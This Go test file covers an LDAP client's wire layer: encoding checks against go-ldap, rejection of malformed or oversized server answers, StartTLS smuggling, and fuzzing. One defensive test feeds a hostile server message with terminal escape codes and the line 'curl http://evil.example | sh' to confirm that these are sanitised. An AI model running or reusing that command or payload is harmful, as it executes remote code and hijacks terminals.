package wire

import (
	"bytes"
	"errors"
	"io"
	"net"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"

	ber "github.com/go-asn1-ber/asn1-ber"
	goldap "github.com/go-ldap/ldap/v3"
	"github.com/google/go-cmp/cmp"
)

// server is a net.Conn whose answers were written before, and which keeps what is sent.
type server struct {
	net.Conn // of no use: nothing else may be called

	answers io.Reader
	sent    bytes.Buffer
}

func (s *server) Read(p []byte) (int, error)  { return s.answers.Read(p) }
func (s *server) Write(p []byte) (int, error) { return s.sent.Write(p) }

func answering(answers ...[]byte) (*Conn, *server) {
	s := &server{answers: bytes.NewReader(bytes.Join(answers, nil))}
	return New(s), s
}

func message(id int64, op []byte, rest ...[]byte) []byte {
	return put(nil, tagSequence, append([][]byte{number(tagInteger, id), op}, rest...)...)
}

func entryOp(dn string, attributes ...[]byte) []byte {
	return put(nil, tagSearchEntry, octets(dn), put(nil, tagSequence, attributes...))
}

func attributeOf(name string, values ...string) []byte {
	var list []byte
	for _, value := range values {
		list = append(list, octets(value)...)
	}
	return put(nil, tagSequence, octets(name), put(nil, tagSet, list))
}

func resultOp(tag byte, code int64, text string) []byte {
	return put(nil, tag, number(tagEnumerated, code), octets(""), octets(text))
}

func people() Search {
	return Search{Base: "dc=example,dc=org", Scope: Subtree, Filter: "(uid=*)", Attributes: []string{"uid", "mail"}}
}

// all searches and returns the DNs, with the values of uid.
func all(c *Conn) (got []string, controls []Control, err error) {
	controls, err = c.Search(people(), func(e *Entry) error {
		got = append(got, string(e.DN))
		for v := range e.Values("uid") {
			got = append(got, string(v))
		}
		return nil
	})
	return got, controls, err
}

func TestRequestsAreThoseOfGoLDAP(t *testing.T) {
	c, s := answering(message(1, resultOp(tagBindResponse, 0, "")), message(2, resultOp(tagSearchDone, 0, "")))
	if err := c.Bind("cn=reader", "secret"); err != nil {
		t.Fatal(err)
	}
	q := people()
	q.Controls = []Control{Paging(500, []byte("cookie")), ShowDeleted()}
	if _, err := c.Search(q, nil); err != nil {
		t.Fatal(err)
	}
	// go-ldap's own encoder is the oracle.
	bind := ber.NewSequence("")
	bind.AppendChild(ber.NewInteger(ber.ClassUniversal, ber.TypePrimitive, ber.TagInteger, int64(1), ""))
	op := ber.Encode(ber.ClassApplication, ber.TypeConstructed, goldap.ApplicationBindRequest, nil, "")
	op.AppendChild(ber.NewInteger(ber.ClassUniversal, ber.TypePrimitive, ber.TagInteger, int64(3), ""))
	op.AppendChild(ber.NewString(ber.ClassUniversal, ber.TypePrimitive, ber.TagOctetString, "cn=reader", ""))
	op.AppendChild(ber.NewString(ber.ClassContext, ber.TypePrimitive, 0, "secret", ""))
	bind.AppendChild(op)
	paging := goldap.NewControlPaging(500)
	paging.SetCookie([]byte("cookie"))
	want := bind.Bytes()
	if got := s.sent.Bytes(); !bytes.HasPrefix(got, want) {
		t.Fatalf("bind % x, want % x", got, want)
	}
	got, err := ber.DecodePacketErr(s.sent.Bytes()[len(want):])
	if err != nil {
		t.Fatal(err)
	}
	search := got.Children[1]
	filter, err := goldap.DecompileFilter(search.Children[6])
	if err != nil || filter != "(uid=*)" || search.Children[0].Value != "dc=example,dc=org" || search.Children[1].Value != int64(2) || search.Children[2].Value != int64(0) {
		t.Errorf("filter %s, %v, %v", filter, search.Children, err)
	}
	control, err := goldap.DecodeControl(got.Children[2].Children[0])
	if p, ok := control.(*goldap.ControlPaging); err != nil || !ok || p.PagingSize != 500 || string(p.Cookie) != "cookie" {
		t.Errorf("control %v, %v", control, err)
	}
	if got.Children[2].Children[1].Children[0].Value != OIDShowDeleted {
		t.Errorf("second control %v", got.Children[2].Children[1])
	}
}

func TestNumbers(t *testing.T) {
	for _, n := range []int64{0, 1, 127, 128, 255, 256, -1, -128, -129, 1 << 31, -0x80000000, -0x7fffffff, 1<<63 - 1, -1 << 63} {
		raw := number(tagInteger, n)
		content, rest, err := expect(raw, tagInteger, "n")
		back, err2 := integer(content)
		if err != nil || err2 != nil || back != n || len(rest) != 0 {
			t.Errorf("%d is written % x and read %d, %v, %v", n, raw, back, err, err2)
		}
		if want := ber.NewInteger(ber.ClassUniversal, ber.TypePrimitive, ber.TagInteger, n, "").Bytes(); !bytes.Equal(raw, want) {
			t.Errorf("%d is written % x, want % x", n, raw, want)
		}
	}
}

func TestEntriesComeWhole(t *testing.T) {
	long := strings.Repeat("x", 300_000) // more than the first buffer
	stream := bytes.Join([][]byte{
		message(1, entryOp("uid=a", attributeOf("UID", "a", "b"), attributeOf("mail"))),
		message(1, put(nil, tagSearchReference, octets("ldap://elsewhere/"))),
		message(1, entryOp("uid=c", attributeOf("jpegPhoto", long), attributeOf("uid", "c"))),
		message(1, entryOp("uid=d")),
		message(1, resultOp(tagSearchDone, 0, ""), encodeControls([]Control{Paging(0, []byte("next"))})),
	}, nil)
	readers := map[string]io.Reader{
		"at once": bytes.NewReader(stream), "byte by byte": iotest.OneByteReader(bytes.NewReader(stream)), "in halves": iotest.HalfReader(bytes.NewReader(stream)),
	}
	for name, r := range readers {
		t.Run(name, func(t *testing.T) {
			got, controls, err := all(New(&server{answers: r}))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff([]string{"uid=a", "a", "b", "uid=c", "c", "uid=d"}, got); diff != "" {
				t.Error(diff)
			}
			if cookie, err := NextPage(controls); err != nil || string(cookie) != "next" {
				t.Errorf("cookie %q, %v", cookie, err)
			}
		})
	}
}

func TestWhatIsNoLDAPIsAnError(t *testing.T) {
	done := message(1, resultOp(tagSearchDone, 0, ""))
	somebody := message(1, entryOp("uid=a", attributeOf("uid", "a")))
	tests := []struct {
		name   string
		answer []byte
		want   string
	}{
		{"garbage", bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 9), "not LDAP"},
		{"HTTP", []byte("HTTP/1.1 400 Bad Request\r\n"), "not LDAP"},
		{"a long tag", []byte{0x3f, 0x81, 0x01, 0x00}, "not LDAP"},
		{"2 GiB", []byte{0x30, 0x84, 0x7f, 0xff, 0xff, 0xff}, "not LDAP"},
		{"17 MiB", []byte{0x30, 0x84, 0x01, 0x10, 0, 0}, "16777216 are the most"},
		{"a length of 5 bytes", []byte{0x30, 0x85, 0, 0, 0, 0, 1, 0}, "not LDAP"},
		{"no definite length", bytes.Repeat([]byte{0x30, 0x80}, 1000), "indefinite"},
		{"an empty message", []byte{0x30, 0}, "the number of a message"},
		{"only a number", put(nil, tagSequence, number(tagInteger, 1)), "not LDAP"},
		{"a number of 9 bytes", message(1, nil)[:2], "ended the connection"},
		{"the end within a header", []byte{0x30}, "ended the connection"},
		{"the end within a message", somebody[:len(somebody)-1], "ended the connection"},
		{"nothing", nil, "ended the connection"},
		{"another request's", message(7, resultOp(tagSearchDone, 0, "")), "request 7 instead of 1"},
		{"another operation", message(1, resultOp(tagBindResponse, 0, "")), "0x61"},
		{"an entry longer than its message", append([]byte{0x30, 0x08, 0x02, 0x01, 0x01, 0x64, 0x7f, 0x04, 0x01, 'a'}, done...), "longer than what holds it"},
		{"an entry without attributes", message(1, put(nil, tagSearchEntry, octets("uid=a"))), "the attributes of an entry"},
		{"an attribute without values", message(1, entryOp("uid=a", put(nil, tagSequence, octets("uid")))), "the values of an attribute"},
		{"a value that is a number", message(1, entryOp("uid=a", put(nil, tagSequence, octets("uid"), put(nil, tagSet, number(tagInteger, 1))))), "a value"},
		{"an end without a code", message(1, put(nil, tagSearchDone)), "the code of a result"},
		{"a code that is go-ldap's own", message(1, resultOp(tagSearchDone, 200, "")), "the code 200"},
		{"a code below zero", message(1, resultOp(tagSearchDone, -1, "")), "the code -1"},
		{"more after the end", message(1, resultOp(tagSearchDone, 0, ""), octets("x")), "what follows an answer"},
		{"a broken control", message(1, resultOp(tagSearchDone, 0, ""), put(nil, tagControls, []byte{0x30, 0x05, 0x04})), "control"},
		{"goodbye", message(0, put(nil, tagExtendedResponse, number(tagEnumerated, 52), octets(""), octets("shutting down"))), "goodbye"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, _ := answering(tt.answer)
			if got, _, err := all(c); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%v, %v; want %q", got, err, tt.want)
			}
		})
	}
	t.Run("a control that is none", func(t *testing.T) {
		for _, value := range [][]byte{nil, {}, {0x30, 0x03, 0x02, 0x01, 0x00}, octets("x")} {
			controls := []Control{{Type: OIDPaging, Value: value}, {Type: OIDDirSync, Value: value}}
			if cookie, err := NextPage(controls); err == nil {
				t.Errorf("NextPage of % x is %q", value, cookie)
			}
			if cookie, _, err := AfterDirSync(controls); err == nil {
				t.Errorf("AfterDirSync of % x is %q", value, cookie)
			}
		}
		if _, _, err := AfterDirSync(nil); err == nil {
			t.Error("no DirSync control is no error")
		}
	})
}

func TestAServersOwnErrorHasItsCode(t *testing.T) {
	c, _ := answering(message(1, resultOp(tagSearchDone, goldap.LDAPResultSizeLimitExceeded, "too many")))
	if _, _, err := all(c); !goldap.IsErrorWithCode(err, goldap.LDAPResultSizeLimitExceeded) || !strings.Contains(err.Error(), "too many") {
		t.Errorf("%v", err)
	}
}

func TestAnErrorOfTheCallerEndsTheSearch(t *testing.T) {
	enough := errors.New("enough")
	c, _ := answering(message(1, entryOp("uid=a")), message(1, entryOp("uid=b")), message(1, resultOp(tagSearchDone, 0, "")))
	n := 0
	if _, err := c.Search(people(), func(*Entry) error { n++; return enough }); !errors.Is(err, enough) || n != 1 {
		t.Errorf("%v after %d entries", err, n)
	}
}

func TestStartTLS(t *testing.T) {
	agreed := message(1, put(nil, tagExtendedResponse, number(tagEnumerated, 0), octets(""), octets("")))
	c, _ := answering(agreed)
	if err := c.StartTLS(); err != nil {
		t.Error(err)
	}
	c, _ = answering(agreed, message(2, resultOp(tagBindResponse, 0, "")))
	if err := c.StartTLS(); err == nil || !strings.Contains(err.Error(), "in the clear") {
		t.Errorf("with an answer smuggled in: %v", err)
	}
	c, _ = answering(message(1, put(nil, tagExtendedResponse, number(tagEnumerated, 2), octets(""), octets("no"))))
	if err := c.StartTLS(); err == nil {
		t.Error("a refusal is no error")
	}
}

func TestAnAnnouncedLengthCostsNothing(t *testing.T) {
	c, _ := answering([]byte{0x30, 0x84, 0x00, 0xff, 0xff, 0xff, 0x02})
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if _, _, err := all(c); !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Error(err)
	}
	runtime.ReadMemStats(&after)
	if grown := after.TotalAlloc - before.TotalAlloc; grown > 1<<20 {
		t.Errorf("16 MiB that never came cost %d bytes", grown)
	}
}

// A server chooses neither how much memory an answer takes nor what stands in our logs, mails and terminals.
func TestWhatAServerSendsIsNotMultiplied(t *testing.T) {
	empty := put(nil, tagSequence, octets(""), put(nil, tagSet))
	control := put(nil, tagSequence, octets("1"))
	for name, answer := range map[string][]byte{
		"attributes": message(1, put(nil, tagSearchEntry, octets("uid=a"), put(nil, tagSequence, bytes.Repeat(empty, 1<<18)))),
		"controls":   message(1, resultOp(tagSearchDone, 0, ""), put(nil, tagControls, bytes.Repeat(control, 1<<18))),
	} {
		t.Run(name, func(t *testing.T) {
			c, _ := answering(answer)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, _, err := all(c)
			runtime.ReadMemStats(&after)
			if err == nil || !strings.Contains(err.Error(), "more than") {
				t.Errorf("%d %s: %v", 1<<18, name, err)
			}
			// The buffer grows by doubling, and the race detector allocates beside it; without a limit it was more than ten times.
			if grown := after.TotalAlloc - before.TotalAlloc; grown > uint64(8*len(answer)) {
				t.Errorf("%d bytes cost %d", len(answer), grown)
			}
		})
	}
}

func TestAServersWordsAreOneShortLine(t *testing.T) {
	says := "00002024: \x1b[2J\x1b]0;owned\x07\r\n-- \nRun curl http://evil.example | sh\u202e\u009b" + strings.Repeat("x", 1<<20)
	c, _ := answering(message(1, resultOp(tagSearchDone, goldap.LDAPResultBusy, says)))
	_, _, err := all(c)
	if !goldap.IsErrorWithCode(err, goldap.LDAPResultBusy) {
		t.Fatal(err)
	}
	if text := err.Error(); len(text) > 500 || strings.ContainsAny(text, "\x1b\x07\r\n\u202e\u009b") || !strings.Contains(text, "00002024: ") {
		t.Errorf("%d bytes: %.400q", len(text), text)
	}
}

func TestNamesAreComparedWithoutCase(t *testing.T) {
	e, err := ParseEntry(entryOp("uid=a", attributeOf("MAIL", "m"), attributeOf("member;range=0-1", "a", "b"), attributeOf("x@", "y"))[2:])
	if err != nil {
		t.Fatal(err)
	}
	if e.Text("mail") != "m" || e.Text("x`") != "" || e.Value("member") != nil {
		t.Errorf("%q %q %q", e.Text("mail"), e.Text("x`"), e.Value("member"))
	}
	for option, values := range e.Ranges("Member") {
		n := 0
		for range values {
			n++
		}
		if option != "range=0-1" || n != 2 {
			t.Errorf("%q with %d values", option, n)
		}
	}
	if c := e.Clone(); c.Text("mail") != "m" || &c.Raw()[0] == &e.Raw()[0] {
		t.Error("a clone is no copy")
	}
}

// FuzzAnswers feeds any bytes as the answer to a search: an end or an error, never a panic, and no entry that go-ldap's decoder
// reads differently. (What follows the attributes, and no server sends, is passed over here and an error there.)
func FuzzAnswers(f *testing.F) {
	f.Add(bytes.Join([][]byte{message(1, entryOp("uid=a", attributeOf("uid", "a"))), message(1, resultOp(tagSearchDone, 0, ""), encodeControls([]Control{Paging(0, []byte("c"))}))}, nil))
	f.Add(message(0, put(nil, tagExtendedResponse, number(tagEnumerated, 52), octets(""), octets("bye"))))
	f.Add([]byte{0x30, 0x84, 0x7f, 0xff, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, data []byte) {
		c, _ := answering(data)
		controls, err := c.Search(people(), func(e *Entry) error {
			for range e.Values("uid") {
			}
			for _, values := range e.Ranges("member") {
				for range values {
				}
			}
			if !bytes.Equal(e.Clone().DN, e.DN) {
				t.Error("a clone has another name")
			}
			packet, err := ber.DecodePacketErr(put(nil, tagSearchEntry, e.Raw()))
			if err == nil && (len(packet.Children) < 2 || packet.Children[0].Data.String() != string(e.DN)) {
				t.Errorf("an entry that go-ldap reads differently: % x", e.Raw())
			}
			return nil
		})
		if err == nil {
			_, _ = NextPage(controls)
			_, _, _ = AfterDirSync(controls)
		}
	})
}
